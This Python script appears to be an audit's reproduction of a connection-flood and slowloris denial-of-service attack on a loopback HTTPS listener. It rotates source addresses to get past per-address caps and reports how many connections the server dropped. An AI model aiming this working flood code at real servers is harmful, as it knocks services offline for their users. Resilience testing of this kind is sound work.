#!/usr/bin/env python3
"""Connection flood against an HTTPS listener (the audit's reproduction).

Opens IDLE plain TCP connections that never send a byte and SLOW TLS
connections that finish the handshake and then send a request header one
byte a second (slowloris), spread over loopback source addresses
127.0.0.2..127.0.0.N so that a per-address cap does not refuse them all,
holds them HOLD seconds, and reports how many the server closed.
Prints "flood up" once everything is open. Loopback only.

usage: flood.py PORT IDLE SLOW HOLD [SOURCES]
"""
import asyncio
import resource
import ssl
import sys
import time


async def idle_conn(port, src, stats):
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0))
    except OSError:
        stats["refused"] += 1
        return None
    stats["open"] += 1
    return reader, writer


async def slow_conn(port, src, ctx, hold, stats, opened):
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0), ssl=ctx,
                                    server_hostname="127.0.0.1"), 30)
    except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
        stats["tls_failed"] += 1
        stats.setdefault("tls_error", repr(e)[:80].replace(",", ";"))
        opened.set_result(None) if not opened.done() else None
        return
    stats["tls_open"] += 1
    head = b"GET /directory HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 4096
    end = time.monotonic() + hold
    i = 0
    while time.monotonic() < end:
        try:
            writer.write(head[i % len(head):i % len(head) + 1])
            await writer.drain()
        except (OSError, ConnectionError):
            stats["slow_closed_by_server"] += 1
            return
        i += 1
        await asyncio.sleep(1)
    writer.close()


async def main():
    port, n_idle, n_slow, hold = (int(a) for a in sys.argv[1:5])
    sources = int(sys.argv[5]) if len(sys.argv) > 5 else 20
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    room = hard - 200
    if n_idle + n_slow > room:  # a smaller machine: scale the flood down
        n_idle = max(0, room - n_slow)
    srcs = [f"127.0.0.{2 + i}" for i in range(sources)]
    stats = {"open": 0, "refused": 0, "tls_open": 0, "tls_failed": 0,
             "slow_closed_by_server": 0, "idle_closed_by_server": 0}
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    idle = []
    for i in range(0, n_idle, 500):
        batch = [idle_conn(port, srcs[(i + j) % sources], stats) for j in range(min(500, n_idle - i))]
        idle += [c for c in await asyncio.gather(*batch) if c]
    opened = asyncio.get_running_loop().create_future()
    slow = [asyncio.create_task(slow_conn(port, srcs[i % sources], ctx, hold, stats, opened))
            for i in range(n_slow)]
    await asyncio.sleep(min(5, hold / 4))
    print(f"flood up: {stats['open']} idle TCP, {stats['tls_open']} slowloris TLS "
          f"({stats['refused']} refused, {stats['tls_failed']} TLS failed)", flush=True)
    await asyncio.gather(*slow)
    for reader, writer in idle:
        if reader.at_eof() or writer.is_closing():
            stats["idle_closed_by_server"] += 1
        else:
            try:
                data = await asyncio.wait_for(reader.read(1), 0.001)
                if data == b"":
                    stats["idle_closed_by_server"] += 1
            except (asyncio.TimeoutError, OSError, ConnectionError):
                pass
        writer.close()
    print("flood done: " + ", ".join(f"{k}={v}" for k, v in stats.items()), flush=True)


asyncio.run(main())
